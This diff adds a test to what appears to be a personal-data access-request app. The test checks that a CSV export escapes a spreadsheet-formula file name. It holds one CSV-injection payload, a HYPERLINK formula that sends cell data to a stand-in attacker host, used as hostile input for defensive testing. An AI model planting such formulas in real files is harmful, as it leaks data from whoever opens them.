@@ -702,3 +702,28 @@ def test_a_missing_reference_file_is_a_404_and_a_note_not_a_500(open_request, ro
     assert page.status_code == 200 and "the stored file is missing" in page.content.decode()
     assert image.status_code == 404
     assert not PersonalDataView.objects.exists()
+
+
+def test_a_hostile_file_name_reaches_the_response_pack_as_text(archives, settings, role_users):
+    """copies.csv goes to an outside party: a formula in a path must not run when opened."""
+    enable_encodings(settings)
+    archive = build_face_archive(archives)
+    hostile = '=HYPERLINK("attacker.example?"&A1,"open").jpg'
+    # At the source's root, so the path relative to it starts with "=".
+    (archive.press / "web" / "astronaut_copy.jpg").rename(archive.press / hostile)
+    scan_face_archive(archive)
+    legal = role_users["legal"]
+    request = _request(legal)
+    reference_photo_add(
+        request=request, upload=jpeg_upload(astronaut_reference()), uploaded_by=legal
+    )
+    access_request_search(request=request, user=legal)
+    for candidate in request.candidates.all():
+        request_candidate_decide(candidate=candidate, confirmed=True, user=legal)
+
+    pack = response_pack_build(request=request, user=legal)
+
+    with zipfile.ZipFile(Path(settings.PROVENA_MEDIA_ROOT) / pack.path) as zipped:
+        rows = list(csv.DictReader(io.StringIO(zipped.read("copies.csv").decode())))
+    paths = {r["path"] for r in rows if r["source"] == "press"}
+    assert paths == {"'" + hostile, "web/astronaut_small.jpg"}
